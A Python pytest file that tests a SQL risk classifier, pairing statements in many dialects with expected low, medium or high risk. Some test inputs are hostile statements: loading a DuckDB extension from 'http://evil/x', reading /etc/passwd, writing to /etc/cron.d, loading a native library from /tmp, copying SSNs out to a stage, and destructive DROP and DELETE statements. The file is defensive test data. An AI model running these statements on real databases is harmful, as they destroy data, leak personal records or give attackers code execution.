"""What statements mean where one word, one branch or one place decides."""

import pytest

from tests.facts.sql_reading import cases, risk

MEANING = r"""
mysql      low    SET @q='SELECT 1'; PREPARE p FROM @q; EXECUTE p
mysql      high   SET @q='DROP TABLE x'; PREPARE p FROM @q; EXECUTE p
mysql      medium SET @t='a'; SET @q=CONCAT('ALTER TABLE ', @t, ' ADD INDEX i (b)'); PREPARE p FROM @q; EXECUTE p
postgres   medium PREPARE p AS DELETE FROM t WHERE id=$1; EXECUTE p(1)
postgres   high   PREPARE p AS DELETE FROM t; EXECUTE p
mssql      high   SELECT 1\nDROP TABLE x
oracle     high   EXECUTE IMMEDIATE\n'DROP TABLE x'
oracle     high   begin\nEXECUTE IMMEDIATE\n'DROP TABLE x';\nend;
mysql      high   DELIMITER // CREATE PROCEDURE p() BEGIN DELETE FROM t; END// DROP TABLE x//
mysql      high   DELIMITER //\nDROP TABLE x//\nDELIMITER ;
mysql      medium DELIMITER // CREATE PROCEDURE p() BEGIN DELETE FROM t; END//\nDELIMITER ;
postgres   medium COPY t (a,b) FROM stdin;\n1 drop table x;\n2 DROP TABLE y;\n\.\nSELECT 1 LIMIT 1;
postgres   medium COPY t (a,b) FROM stdin;\n1 x\n2 DROP TABLE y;\n
snowflake  high   ALTER TABLE t MODIFY COLUMN c UNSET MASKING POLICY
snowflake  high   ALTER TABLE t ALTER COLUMN c UNSET MASKING POLICY
snowflake  medium ALTER TABLE t MODIFY COLUMN c SET MASKING POLICY p
postgres   high   CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/x.so','f'
mssql      high   BACKUP DATABASE d TO DISK = '\\host\share\d.bak'
mssql      high   RESTORE DATABASE d FROM DISK = '\\host\share\d.bak'
postgres   high   COPY t TO '/etc/cron.d/x'
snowflake  medium COPY INTO t FROM @stage/x
hive       high   LOAD DATA INPATH '/x' OVERWRITE INTO TABLE t
hive       medium LOAD DATA INPATH '/x' INTO TABLE t
clickhouse high   KILL QUERY WHERE 1
clickhouse medium KILL QUERY WHERE query_id='x'
duckdb     medium INSTALL httpfs; LOAD httpfs;
duckdb     high   INSTALL x FROM 'http://evil/x'
databricks high   RESTORE TABLE t TO VERSION AS OF 3
snowflake  medium CREATE STORAGE INTEGRATION s TYPE = EXTERNAL_STAGE
postgres   high   DELETE FROM t WHERE created < now()
postgres   high   DELETE FROM t WHERE created_at <= current_date
postgres   high   DELETE FROM t WHERE created_at < current_timestamp
mysql      high   DELETE FROM t WHERE created_at <= NOW()
mssql      high   DELETE FROM t WHERE created_at <= GETDATE()
mssql      high   DELETE FROM t WHERE created_at <= SYSDATETIME()
oracle     high   DELETE FROM t WHERE created_at <= SYSDATE
oracle     high   DELETE FROM t WHERE created_at <= SYSTIMESTAMP
postgres   medium DELETE FROM sessions WHERE expires_at < now()
postgres   medium DELETE FROM t WHERE created_at < now() - interval '30 days'
sqlite     high   DELETE FROM t WHERE created_at <= datetime('now')
mysql      high   DELETE FROM t WHERE expired_at IS NOT NULL OR 1
mssql      high   DECLARE @s nvarchar(99)\nIF @a = 1\n SET @s = 'DROP TABLE x'\nELSE\n SET @s = 'SELECT 1'\nEXEC(@s)
mssql      medium WHILE (SELECT COUNT(*) FROM t) > 0 BEGIN DELETE TOP (100) FROM t WHERE a=1 END
oracle     high   BEGIN IF a=1 THEN s:='DROP TABLE x'; ELSE s:='SELECT 1'; END IF; EXECUTE IMMEDIATE s; END;
postgres   high   DO $$ BEGIN IF pg_read_file('/etc/passwd') = 'a' THEN RAISE NOTICE 'x'; END IF; END $$
postgres   high   DO $$ BEGIN WHILE lo_export(1,'/x') LOOP NULL; END LOOP; END $$
snowflake  high   COPY INTO @out/x FROM (SELECT ssn FROM people)
postgres   medium CREATE FUNCTION f() RETURNS void LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 $$
mssql      low    SET SHOWPLAN_XML ON\nGO\nDELETE FROM t\nGO\nSET SHOWPLAN_XML OFF\nGO
mssql      high   SET SHOWPLAN_XML ON\nGO\nSELECT 1\nGO\nSET SHOWPLAN_XML OFF\nGO\nDELETE FROM t
mssql      high   SET SHOWPLAN_XML ON; DELETE FROM t
mssql      medium SELECT TOP (1) id FROM t WITH (TABLOCKX, HOLDLOCK)
mssql      low    SELECT id INTO #a FROM t WHERE b = 1; DROP TABLE #a
mssql      medium DROP TABLE ##shared
mssql      medium SELECT * FROM people WHERE ssn = '1'
mssql      low    DECLARE @s nvarchar(99) = N''; SET @s = N'SELECT 1'; EXEC(@s)
oracle     low    PRAGMA EXCEPTION_INIT(e, -20001);
oracle     low    BEGIN IF a = 1 THEN raise_application_error(-20001, 'no'); END IF; END;
oracle     high   cle scre\nCREATE USER a IDENTIFIED BY b
oracle     medium ALTER USER a DEFAULT TABLESPACE b
oracle     high   ALTER USER a IDENTIFIED BY b DEFAULT TABLESPACE c
oracle     high   ALTER USER a DEFAULT ROLE ALL
mysql      medium SELECT id, SLEEP(0.5) FROM t WHERE id < 900
mysql      low    SELECT SLEEP(1)
postgres   medium SELECT name, lo_unlink(scan) FROM t WHERE id = 7
postgres   high   SELECT lo_unlink(scan) FROM t
postgres   medium SELECT name FROM t LIMIT 50000000
mysql      low    EXPLAIN DELETE FROM t WHERE 1 = 1
"""


@pytest.mark.parametrize(("dialect", "expected", "text"), cases(MEANING))
def test_the_deciding_part_is_found(dialect: str, expected: str, text: str) -> None:
    """Text built in variables, conditions, times, delimiters, places of files, plans that run nothing."""
    assert risk(text, dialect) == expected
